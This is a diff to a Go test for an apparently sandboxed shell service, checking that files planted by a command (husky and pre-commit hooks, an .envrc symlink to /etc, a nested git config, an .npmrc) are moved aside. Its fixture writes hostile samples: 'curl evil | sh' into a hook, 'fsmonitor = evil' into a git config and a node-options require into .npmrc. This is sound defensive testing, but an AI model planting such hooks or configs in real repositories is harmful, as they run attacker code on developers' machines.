@@ -6,6 +6,7 @@ import (
 	"errors"
 	"fmt"
 	"os"
+	"path"
 	"path/filepath"
 	"strconv"
 	"strings"
@@ -459,6 +460,7 @@ func testShellProtectedMade(t *testing.T, sandboxed bool) {
 	sb := newSandbox(t)
 	must(t, os.MkdirAll(filepath.Join(sb.ws, ".git"), 0o755))
 	must(t, os.WriteFile(filepath.Join(sb.ws, ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
+	must(t, os.MkdirAll(filepath.Join(sb.ws, "vendor", "lib", ".git"), 0o755)) // a nested repository, there before
 	var s *Service
 	if sandboxed {
 		s = shellService(t, sb, 10*time.Second)
@@ -466,21 +468,25 @@ func testShellProtectedMade(t *testing.T, sandboxed bool) {
 		s = shellServiceUnsandboxed(t, sb, 10*time.Second)
 	}
 	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c",
-		"mkdir .husky && echo 'curl evil | sh' > .husky/pre-commit && echo 'repos: []' > .pre-commit-config.yaml && ln -s /etc .envrc && echo ok > notes.txt"))
+		"mkdir .husky && echo 'curl evil | sh' > .husky/pre-commit && echo 'repos: []' > .pre-commit-config.yaml && ln -s /etc .envrc && "+
+			"mkdir -p sub/.git pkg && echo '[core] fsmonitor = evil' > sub/.git/config && echo 'node-options=--require ./x.js' > pkg/.npmrc && echo ok > notes.txt"))
 	if res.ExitCode != 0 {
 		t.Fatalf("the program: %+v", res)
 	}
-	if len(res.ProtectedMoved) != 3 {
+	if len(res.ProtectedMoved) != 5 {
 		t.Fatalf("moved aside: %v", res.ProtectedMoved)
 	}
-	for _, name := range []string{".husky", ".pre-commit-config.yaml", ".envrc"} {
+	for _, name := range []string{".husky", ".pre-commit-config.yaml", ".envrc", "sub/.git", "pkg/.npmrc"} {
 		if _, err := os.Lstat(filepath.Join(sb.ws, name)); !os.IsNotExist(err) {
 			t.Errorf("%s is still there (%v)", name, err)
 		}
 		aside := res.ProtectedMoved[name]
-		if _, err := os.Lstat(filepath.Join(sb.ws, aside)); err != nil || !strings.HasPrefix(aside, ".xct-") {
+		if _, err := os.Lstat(filepath.Join(sb.ws, aside)); err != nil || !strings.HasPrefix(path.Base(aside), ".xct-") || path.Dir(aside) != path.Dir(name) {
 			t.Errorf("%s was not moved aside to %q: %v", name, aside, err)
 		}
+	}
+	if _, err := os.Stat(filepath.Join(sb.ws, "vendor", "lib", ".git")); err != nil {
+		t.Errorf("the nested repository that was there before: %v", err)
 	}
 	if b, err := os.ReadFile(filepath.Join(sb.ws, res.ProtectedMoved[".husky"], "pre-commit")); err != nil || !strings.Contains(string(b), "evil") {
 		t.Errorf("the moved .husky lost its content: %q %v", b, err)
